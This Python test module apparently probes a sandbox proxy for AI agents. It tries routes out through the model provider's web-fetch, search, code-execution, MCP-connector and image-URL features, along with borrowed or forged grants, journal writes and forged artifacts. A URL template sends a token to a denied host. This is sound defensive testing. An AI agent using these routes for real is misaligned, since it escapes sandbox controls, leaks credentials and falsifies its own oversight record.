"""Ways through the sandbox's own door with a grant that is not for it."""

import json

from door_calls import Refusal, authority, own_grant, passed, send
from record import journal

HELLO = {"type": "text", "text": "[[scn:stray]] Hello."}
# What the model would be asked to reach, and what would be told there.
OUTSIDE = "http://{denied}/?told={token}"


def model_call(headers, content=(), **more):
    call = {"model": "claude-sonnet-4-5", "max_tokens": 16, "messages": [{"role": "user", "content": [HELLO, *content]}], **more}
    body = json.dumps(call).encode()
    return passed(send("POST /model/v1/messages HTTP/1.1", [*headers, ("Content-Type", "application/json"), ("Content-Length", len(body))], body))


def call_of_provider(content=(), **more):
    """A call with the agent's own grant that has the provider of the model API reach outside."""
    try:
        return model_call(authority(own_grant()), content, **more)
    except Refusal as refusal:
        # The model API has one word for every request that it does not take.
        if refusal.word == "invalid_request_error" and "model.provider_tools" in str(refusal):
            raise Refusal("provider_tools", str(refusal)) from None
        raise


def model_that_fetches():
    return call_of_provider(tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}])


def model_that_searches():
    return call_of_provider(tools=[{"type": "web_search_20250305", "name": "web_search"}])


def model_that_executes():
    return call_of_provider(tools=[{"type": "code_execution_20250825", "name": "code_execution"}])


def model_with_unknown_tool():
    return call_of_provider(tools=[{"type": "reach_20991231", "name": "reach"}])


def model_with_connector(denied, token):
    server = {"type": "url", "name": "outside", "url": OUTSIDE.format(denied=denied, token=token)}
    return call_of_provider(mcp_servers=[server])


def model_that_shows(denied, token):
    """An image that lies deep in a tool's result, and is fetched from where the agent says."""
    source = {"type": "url", "url": OUTSIDE.format(denied=denied, token=token)}
    image = {"type": "image", "source": source}
    return call_of_provider([{"type": "tool_result", "tool_use_id": "toolu_1", "content": [image]}])


def model_without_grant():
    return model_call([("Host", "caisson")])


def model_with_siblings_grant(sibling_grant):
    return model_call(authority(sibling_grant))


def model_with_made_up_grant():
    return model_call(authority("csa_" + "a" * 43))


def model_with_control_grant(own_control_grant):
    return model_call(authority(own_control_grant))


def repository_without_grant():
    return passed(send("GET /git/origin/info/refs?service=git-upload-pack HTTP/1.1", [("Host", "caisson")]))


def repository_with_siblings_grant(sibling_grant):
    return passed(send("GET /git/origin/info/refs?service=git-upload-pack HTTP/1.1", authority(sibling_grant)))


def outside_without_grant(web):
    return passed(send(f"GET http://{web}/ok HTTP/1.1", [("Host", web)]))


def journal_with_agents_grant():
    return passed(send("GET /journal HTTP/1.1", authority(own_grant())))


def journal_written_with_agents_grant(own_control_grant):
    """An empty piece, where the journal ends, as the stolen grant tells: nothing is lost by it, and it is a write all the same."""
    offset = journal(own_control_grant)
    headers = [*authority(own_grant()), ("Content-Length", 0)]
    return passed(send(f"POST /journal?offset={offset} HTTP/1.1", headers))


def artifact_with_agents_grant(own_run):
    return passed(send(f"PUT /artifacts/{own_run}/forged HTTP/1.1", [*authority(own_grant()), ("Content-Length", 1)], b"x"))


def live_text_with_agents_grant(own_run):
    body = json.dumps({"run": own_run, "items": [{"kind": "text", "text": "forged"}]}).encode()
    return passed(send("POST /deltas HTTP/1.1", [*authority(own_grant()), ("Content-Length", len(body))], body))
